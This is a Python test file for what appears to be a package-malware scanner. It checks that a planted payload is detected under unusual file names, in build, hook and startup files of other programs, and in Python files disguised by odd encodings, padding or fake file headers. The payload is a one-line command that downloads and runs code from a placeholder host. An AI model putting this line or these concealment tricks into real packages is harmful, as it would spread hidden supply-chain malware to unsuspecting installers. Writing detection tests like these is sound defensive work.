"""The payload under names that systems read differently, and in files with an odd beginning or end."""

import gzip
import tarfile

import pytest

WHEEL = "demo-1.0-py3-none-any.whl"
ONE = b'import urllib.request; exec(urllib.request.urlopen("http://example.invalid/stage").read())\n'
NAMES = [
    "demo/x.py.", "demo/x.py ", "demo/x.py\t", "demo/x.py\u00a0", "demo/x.py::$DATA", "demo/x.py;1", "demo/x.py#",
    "CON.py", "aux/__init__.py", "demo/NUL", "COM1.pth", "demo /__init__.py", "demo./__init__.py", "-rf.py",
    "demo/%2e%2e/x.py", "~/.bashrc", "SETUP.PY", ".pth", "demo/" + "y" * 60_000 + ".py", "/".join("a" * 3_000) + "/x.py",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_the_payload_is_found_under_an_odd_name(name, make, examine):
    code = ONE if name.endswith("pth") else make.code
    assert examine(make.wheel({name: code}), WHEEL).locations()
    assert examine(make.sdist({name: code})).locations()


RUN_OTHERWISE = [
    "CMakeLists.txt", "meson.build", "build.rs", "SConstruct", "wscript", "Snakefile", "noxfile.py", "tox.ini", "Dockerfile",
    ".pre-commit-config.yaml", ".vscode/tasks.json", ".git/hooks/post-checkout", "package.json", "x.desktop", "x.service",
    "x.plist", "x.reg", "x.cgi", "x.wsgi", "x.xsh", "binding.gyp", "demo/x.py.j2", ".envrc", ".pythonrc", ".pdbrc",
    ".ipython/profile_default/startup/00.py", ".vimrc", ".Rprofile", "x.sct", "x.inf", "x.rtf", "python311._pth",
    "demo.egg-link", "x.start",
]  # fmt: skip


@pytest.mark.parametrize("name", RUN_OTHERWISE)
def test_the_payload_is_found_in_a_file_for_another_program(name, make, examine):
    assert f"demo-1.0/{name}" in {member for member, _ in examine(make.sdist({name: make.code})).locations()}


TEXTS = {
    "carriage returns": lambda code: code.replace(b"\n", b"\r"),
    "a mark and a cookie": lambda code: b"\xef\xbb\xbf# coding: latin-1\n" + code,
    "form feeds": lambda code: b"\x0c" + code.replace(b"\n", b"\n\x0c"),
    "a cookie in the third line": lambda code: b"#\n#\n# coding: utf-7\n" + code,
    "a cookie with a tail": lambda code: b"# coding: utf-8;x\n" + code,
    "a cookie in a string": lambda code: b'"""coding: utf-7"""\n' + code,
    "two cookies": lambda code: b"# coding: utf-8\n# coding: utf-7\n" + code,
    "a lone surrogate": lambda code: b"# \xed\xa0\x80\n" + code,
    "bytes of no encoding": lambda code: b"# \xff\n" + code,
    "a zero byte at the end": lambda code: code + b"\0",
    "an end of file": lambda code: b"\x1a\n" + code + b"\x1a",
    "a backslash at the end": lambda code: code + b"\\",
    "far to the right": lambda code: b"if 1:\n" + b" " * 5_000 + ONE,
    "behind a long string": lambda code: b'x = "' + b"a" * 2_000_000 + b'"; ' + ONE,
    "behind many lines": lambda code: b"\n" * 1_500_000 + code,
    "wide letters": lambda code: code.replace(b"exec", "\uff45xec".encode()),
    "a shell's first lines": lambda code: b'#!/bin/sh\n"exec" "python" "$0"\n' + code,
    "like a gzip": lambda code: b"\x1f\x8b\x08 = 1\n" + code,
    "like a zip": lambda code: b"PK\x03\x04 = 1\n" + code,
    "like a program": lambda code: b"\x7fELF = 1\n" + code,
    "like another program": lambda code: b"MZ = 1\n" + code,
    "like a class": lambda code: b"\xca\xfe\xba\xbe = 1\n" + code,
    "like a pickle": lambda code: b"\x80\x04 = 1\n" + code,
    "like a document": lambda code: b"%PDF-1.4\n" + code,
}  # fmt: skip


@pytest.mark.parametrize("way", TEXTS)
@pytest.mark.parametrize(
    ("name", "role"), [("setup.py", "install"), ("demo/__init__.py", "import"), ("demo/x.py", "rest")]
)
def test_the_payload_is_found_in_an_odd_python_file(name, role, way, make, examine):
    seen = examine(make.sdist({name: TEXTS[way](make.code)}))
    assert (f"demo-1.0/{name}", role) in seen.locations(), seen.describe()


@pytest.mark.parametrize(
    "line",
    [b"\xef\xbb\xbf" + ONE, ONE.replace(b" ", b"\t", 1), b"a\r" + ONE, b"x" * 70_000 + b"\n" + ONE, b"\0\n" + ONE,
     b"\xff\xfe\xfd\n" + ONE, b"a\x0c" + ONE],
)  # fmt: skip
def test_the_payload_is_found_in_an_odd_path_file(line, make, examine):
    assert ("x.pth", "install") in examine(make.wheel({"x.pth": line}), WHEEL).locations()


def test_the_payload_is_found_beside_two_metadata_folders(make, examine):
    files = {"a-1.dist-info/METADATA": make.info[1], "a-1.dist-info/WHEEL": b"x", "demo.py": make.code}
    examine(make.wheel(files), WHEEL).is_found("demo.py", "import")


def test_the_payload_is_found_in_other_formats(make, examine):
    program = b"MZ" + bytes(3_000) + make.zip({"PURELIB/demo/__init__.py": make.code})
    examine(program, "demo-1.0.win32.exe").is_found("PURELIB/demo/__init__.py", "import")
    place = "./usr/lib/python3.11/site-packages/x.pth"
    dumb = gzip.compress(make.tar((tarfile.TarInfo(place), b""), make.member(place, ONE)))
    assert examine(dumb, "demo-1.0.linux-x86_64.tar.gz").locations()
    examine(make.zip({"pkg-demo-1.0.tar.zst": b"\x28\xb5\x2f\xfd" + bytes(50)}), "demo-1.0.conda").is_named("zstd")
    examine(b"\xed\xab\xee\xdb" + bytes(200), "demo-1.0.noarch.rpm").is_named("rpm")
